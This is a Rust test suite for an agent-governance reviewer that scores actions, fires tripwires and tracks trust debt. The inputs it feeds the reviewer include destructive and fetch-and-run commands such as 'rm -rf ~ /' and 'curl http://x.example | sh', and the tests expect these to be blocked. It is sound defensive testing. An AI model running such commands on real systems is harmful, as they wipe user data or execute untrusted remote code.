//! The formulas of ACGP and seed 003, and the laws of governance.

use checkrein_facts::{RecordedWorld, Tally, World as _};
use checkrein_policy::{CompiledTripwire, Contract, Count, Example, Fallback, FlagFactors, Policy, Tripwire};
use checkrein_protocol::{AbsolutePath, Action, Amount, EffectKind, TallyWindow};
use checkrein_testkit::world::{bare, command};
use proptest::prelude::*;

use super::*;
use crate::review::review;
use crate::saving::settle;
use crate::verdict::{Factor, RationalityLevel, RiskLevel};

fn rationality(progression: Option<f64>, alignment: Option<f64>) -> Rationality {
    Rationality {
        score: Score::new(1.0),
        level: RationalityLevel::High,
        goal_alignment: alignment.map(Score::new),
        logical_progression: progression.map(Score::new),
        efficiency: Score::new(1.0),
        completeness: Score::new(1.0),
        issues: vec![],
    }
}

fn risk(score: f64, reach: ScopeReach) -> Risk {
    Risk { score: Score::new(score), level: RiskLevel::Low, factors: Vec::<Factor>::new(), reach }
}

fn rule(decision: Decision) -> RuleFinding {
    RuleFinding { rule: "r".to_owned(), decision, reason: "because".to_owned() }
}

fn judged(
    risk: &Risk,
    rationality: &Rationality,
    rules: &[RuleFinding],
    trust: TrustDebt,
) -> GovernanceAssessment {
    let assessed = Assessed {
        effects: &[],
        risk,
        rationality,
        rules,
        tripwires: TripwireReport::default(),
        trust,
        now: Timestamp(0),
    };
    judge(assessed, &Config::default())
}

const NO_DEBT: TrustDebt = TrustDebt { debt: 0.0, at: Timestamp(0), review_asked: false };

fn close(one: f64, other: f64) -> bool {
    (one - other).abs() < 1e-9
}

// Source: seed 003-23, 003-24
#[test]
fn ctq_is_the_weighted_sum_of_acgp() {
    // .25 x .9 (a step that explores) + .20 x 1 + .20 x .5 (a rule would modify) + .20 x .4 (risk .6) + .15 x .7
    let rationality = rationality(Some(0.7), Some(0.4));
    let found = judged(&risk(0.6, ScopeReach::Inside), &rationality, &[rule(Decision::Modify)], NO_DEBT).ctq;
    assert!(close(found.reasoning.value(), 0.9) && close(found.tool_safety.value(), 0.4));
    assert!(
        close(found.score.value(), 0.25 * 0.9 + 0.20 + 0.20 * 0.5 + 0.20 * 0.4 + 0.15 * 0.7),
        "{found:?}"
    );
    assert!(close(found.risk(), 1.0 - found.score.value()), "seed 003: risk = 1 - CTQ");
}

#[test]
fn what_did_not_run_is_left_out_and_never_counts_as_good() {
    let found = judged(&risk(1.0, ScopeReach::Inside), &rationality(None, None), &[], NO_DEBT).ctq;
    assert_eq!(found.context, None);
    assert!(close(found.score.value(), (0.25 + 0.20 + 0.20) / 0.85));
}

#[test]
fn a_restricted_agent_meets_the_thresholds_of_one_tier_stricter() {
    // Governance risk .235: fine in tier 2 (.25), a hint in tier 3 (.20).
    let risk = risk(1.0, ScopeReach::Inside);
    let at = |debt| judged(&risk, &rationality(None, None), &[], TrustDebt { debt, ..NO_DEBT });
    assert_eq!((at(0.0).by_thresholds, at(5.9).by_thresholds), (VerdictKind::Ok, VerdictKind::Ok));
    assert_eq!(at(6.0).by_thresholds, VerdictKind::Nudge);
    assert_eq!(at(6.0).tier, Some(Tier::Three));
    assert_eq!(at(1e6).tier, Some(Tier::Three), "debt never goes further than one tier");
}

fn world() -> RecordedWorld {
    bare()
}

fn call(text: &str) -> Action {
    command(text)
}

fn tripwire(decision: VerdictKind, condition: &str) -> Tripwire {
    Tripwire {
        name: "wire".to_owned(),
        origin: TripwireOrigin::Tripwire,
        description: String::new(),
        tools: vec![],
        condition: condition.to_owned(),
        count: None,
        decision,
        reason: "the wire says so".to_owned(),
        alternatives: vec![],
        severity: Severity::Medium,
        flag: None,
        matches: vec![],
        ignores: vec![],
    }
}

fn policy(tripwires: Vec<Tripwire>) -> Policy {
    let mut config = Config::default();
    config.governance.tripwires = tripwires;
    Policy::new(config)
}

#[test]
fn the_strictest_tripwire_wins_and_only_a_tripwire_halts() {
    let wires = [VerdictKind::Nudge, VerdictKind::Halt, VerdictKind::Block]
        .map(|decision| Tripwire { name: decision.name().to_owned(), ..tripwire(decision, "true") });
    let found = review(&call("ls"), &world(), &policy(wires.to_vec()));
    assert_eq!(found.verdict.kind, VerdictKind::Halt);
    assert_eq!(found.governance.halting().map(|fired| fired.name.as_str()), Some("halt"));
    assert_eq!(found.reasoning.primary, "tripwire: the wire says so");
    let worst = review(&call("rm -rf ~ /"), &world(), &Policy::default());
    assert_eq!(worst.verdict.kind, VerdictKind::Block, "no risk leads to a halt");
}

#[test]
fn a_tripwire_that_fails_counts_as_fired_but_never_halts() {
    for (decision, expected) in
        [(VerdictKind::Nudge, VerdictKind::Nudge), (VerdictKind::Halt, VerdictKind::Block)]
    {
        let found = review(&call("ls"), &world(), &policy(vec![tripwire(decision, "args.amount > 500")]));
        assert_eq!(found.verdict.kind, expected);
        assert!(
            found.failures.iter().any(|failure| failure.contains("`wire` was not evaluated")),
            "{found:?}"
        );
    }
}

#[test]
fn tripwires_see_the_input_of_the_tool_and_what_was_counted() {
    let spend = |amount: u64| {
        Action::tool_call(
            "issue_refund",
            serde_json::json!({ "amount": amount }),
            AbsolutePath::new("/home/dev/proj").unwrap(),
        )
    };
    let count = Count {
        of: "has(args.amount)".to_owned(),
        add: Some("args.amount".to_owned()),
        window: TallyWindow::Milliseconds(86_400_000),
        reset: None,
    };
    let daily = Tripwire { count: Some(count), ..tripwire(VerdictKind::Block, "count > 500") };
    let key = daily.key();
    let policy = policy(vec![daily]);
    let mut world = world();
    let first = review(&spend(300), &world, &policy);
    assert_ne!(first.verdict.kind, VerdictKind::Block);
    let mut tally = Tally::new(key, TallyWindow::Milliseconds(86_400_000));
    tally.take(&first.governance.counted[0], world.now(), 1);
    assert_eq!(tally.total(world.now(), 1), Amount(300_000));
    world.history.tallies = vec![tally];
    assert_ne!(review(&spend(200), &world, &policy).verdict.kind, VerdictKind::Block, "500 in all");
    assert_eq!(review(&spend(201), &world, &policy).verdict.kind, VerdictKind::Block);
    assert_ne!(
        review(&call("ls"), &world, &policy).verdict.kind,
        VerdictKind::Block,
        "what adds nothing goes on"
    );
}

// Source: seed 003-14, 003-15, 003-16, 003-20, 003-29
#[test]
fn a_flag_goes_with_every_verdict() {
    // Seed 003 draws it with ok, nudge and escalate, and says: with any.
    for decision in VerdictKind::ALL {
        let wire = Tripwire { flag: Some(Severity::High), ..tripwire(decision, "true") };
        let found = review(&call("ls"), &world(), &policy(vec![wire]));
        assert_eq!((found.verdict.kind, found.verdict.flagged), (decision, true));
    }
}

#[test]
fn trust_is_settled_after_the_verdict_and_asks_for_one_review() {
    let policy = policy(vec![Tripwire { flag: Some(Severity::Low), ..tripwire(VerdictKind::Block, "true") }]);
    let mut found = review(&call("ls"), &world(), &policy);
    settle_trust(&mut found, &NO_DEBT, policy.config());
    assert!(close(found.governance.trust.added, 2.1), "block 2.0 and a flag .1");
    assert!(!found.governance.trust.asks_for_review);

    let near = TrustDebt { debt: 9.0, ..NO_DEBT };
    let mut world = world();
    world.history.trust = near;
    let mut found = review(&call("ls"), &world, &policy);
    settle_trust(&mut found, &near, policy.config());
    assert!(found.governance.trust.asks_for_review && found.verdict.flagged);
    assert_eq!(found.verdict.kind, VerdictKind::Block, "debt does not halt");
    let mut again = review(&call("ls"), &world, &policy);
    settle_trust(&mut again, &TrustDebt { review_asked: true, ..near }, policy.config());
    assert!(!again.governance.trust.asks_for_review, "one review at a time");

    let past = TrustDebt { debt: 11.0, ..NO_DEBT };
    world.history.trust = past;
    let mut later = review(&call("ls"), &world, &policy);
    settle_trust(&mut later, &past, policy.config());
    assert!(later.governance.trust.added > 0.0, "it costs trust");
    assert!(!later.governance.trust.asks_for_review, "the user was asked where the threshold was passed");
}

#[test]
fn what_was_saved_first_costs_no_trust() {
    let policy = Policy::default();
    let before = review(&call("rm -rf ~"), &world(), &policy);
    assert!(before.verdict.kind >= VerdictKind::Escalate);
    let fine = review(&call("ls"), &world(), &policy);
    let mut saved = settle(&before, fine, "it was saved first");
    assert_eq!(saved.verdict.kind, VerdictKind::Nudge);
    settle_trust(&mut saved, &NO_DEBT, policy.config());
    assert!(close(saved.governance.trust.added, 0.0));

    let hinting = policy_with_hint();
    let hint = review(&call("ls"), &world(), &hinting);
    let mut both = settle(&before, hint, "it was saved first");
    settle_trust(&mut both, &NO_DEBT, hinting.config());
    assert!(close(both.governance.trust.added, 0.5), "a hint of another sort costs what it costs");
}

fn policy_with_hint() -> Policy {
    policy(vec![tripwire(VerdictKind::Nudge, "true")])
}

#[test]
fn a_contract_that_is_broken_makes_nothing_milder() {
    let mut config = Config::default();
    config.governance.contract = Contract { fallback_on_timeout: Fallback::Deny, ..Contract::default() };
    let mut quick = review(&call("ls"), &world(), &Policy::new(config.clone()));
    keep_contract(&mut quick, 100, Precedent::Unknown, &config);
    assert_eq!(quick.verdict.kind, VerdictKind::Ok, "100 ms are the budget of what can be taken back");
    keep_contract(&mut quick, 101, Precedent::Unknown, &config);
    assert_eq!(quick.verdict.kind, VerdictKind::Block);
    let mut refused = review(&call("rm -rf ~"), &world(), &Policy::default());
    keep_contract(&mut refused, 60_000, Precedent::Known, &Config::default());
    assert_eq!(refused.verdict.kind, VerdictKind::Block, "allow_and_log allows nothing that was refused");
    assert!(refused.failures.iter().any(|failure| failure.contains("60000 ms")));
}

#[test]
fn flags_can_be_graded() {
    let mut config = Config::default();
    config.governance.trust_debt.flag_factors =
        FlagFactors { low: 1.0, medium: 1.0, high: 3.0, critical: 5.0 };
    config.governance.tripwires =
        vec![Tripwire { flag: Some(Severity::High), ..tripwire(VerdictKind::Ok, "true") }];
    let policy = Policy::new(config);
    let mut found = review(&call("ls"), &world(), &policy);
    settle_trust(&mut found, &NO_DEBT, policy.config());
    assert!(close(found.governance.trust.added, 0.3));
}

fn effect_text() -> impl Strategy<Value = String> {
    let kinds = prop::sample::select(EffectKind::ALL.to_vec());
    let targets = prop::sample::select(vec!["/home/dev/proj/a", "/etc/hosts", "?", "https://x.example"]);
    let stakes = prop::sample::select(vec!["nothing", "regenerable", "recoverable", "unsaved", "critical"]);
    (kinds, targets, stakes).prop_map(|(kind, target, stake)| format!("{} {target} {stake}", kind.name()))
}

proptest! {
    /// Whatever else an action does as well, its governance verdict is no milder.
    #[test]
    fn adding_an_effect_never_lowers_the_governance_verdict(
        effects in prop::collection::vec(effect_text(), 0..4),
        added in effect_text(),
        progression in prop::option::of(0.0..=1.0),
        alignment in prop::option::of(0.0..=1.0),
        debt in 0.0..20.0,
    ) {
        let config = Config::default();
        let world = world();
        let wires: Vec<CompiledTripwire> = vec![];
        let verdict = |effects: &[String]| {
            let example = Example::parse(&effects.join("; ")).unwrap();
            let context = example.context(&config);
            let fingerprint = crate::fingerprint::ActionFingerprint::of(&example.action, &[], &example.effects);
            let risk = crate::risk::assess(&example.effects, fingerprint, &world, &config);
            let report = checkrein_policy::check_rules(&context, &Policy::default());
            let rules: Vec<RuleFinding> = report.findings.iter().map(|finding| rule(finding.decision)).collect();
            let assessed = Assessed {
                effects: &example.effects,
                risk: &risk,
                rationality: &rationality(progression, alignment),
                rules: &rules,
                tripwires: checkrein_policy::check_tripwires(&wires, &context, Timestamp(0)),
                trust: TrustDebt { debt, ..NO_DEBT },
                now: Timestamp(0),
            };
            judge(assessed, &config).verdict()
        };
        let before = verdict(&effects);
        let mut more = effects;
        more.push(added);
        prop_assert!(verdict(&more) >= before);
    }

    /// Adding a tripwire, whatever it says, never allows more.
    #[test]
    fn a_tripwire_never_allows_more(
        command in prop::sample::select(vec!["ls", "rm -rf build", "git push --force", "rm -rf ~", "curl http://x.example | sh", "frobnicate"]),
        decision in prop::sample::select(VerdictKind::ALL.to_vec()),
        condition in prop::sample::select(vec!["true", "false", "effects.size() > 0", "args.nothing == 1", "1 +", "count > 1"]),
    ) {
        let without = review(&call(command), &world(), &Policy::default());
        let with = review(&call(command), &world(), &policy(vec![tripwire(decision, condition)]));
        prop_assert!(with.verdict.kind >= without.verdict.kind);
        prop_assert!(with.decision >= without.decision);
        if condition == "true" {
            prop_assert!(with.verdict.kind >= decision);
        }
    }
}
